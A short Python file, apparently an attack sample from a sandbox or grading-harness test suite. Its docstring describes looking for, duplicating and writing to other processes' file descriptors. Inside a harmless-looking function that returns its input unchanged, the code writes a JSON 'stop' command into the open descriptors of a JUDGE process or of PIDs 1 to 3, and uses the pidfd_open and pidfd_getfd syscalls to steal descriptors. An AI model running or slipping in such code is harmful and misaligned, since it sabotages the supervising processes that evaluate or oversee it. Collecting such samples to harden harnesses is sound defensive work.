"""attack: Descriptors of other processes are looked for, duplicated and written to.
class: framework
aim: next
"""

import ctypes
import os
import socket

libc = ctypes.CDLL(None)


def center(x):
    for pid in (JUDGE,) if os.getppid() else (1, 2, 3):
        for descriptor in range(3, 12):
            try:
                with open(f"/proc/{pid}/fd/{descriptor}", "wb", buffering=0) as file:
                    file.write(b'{"do": "stop", "pid": 1}\n')
            except OSError:
                pass
            handle = libc.syscall(434, pid, 0)
            taken = libc.syscall(438, handle, descriptor, 0) if handle >= 0 else -1
            if taken >= 0 and pid != os.getpid():
                os.write(taken, b'{"do": "stop", "pid": 1}\n')
    return x
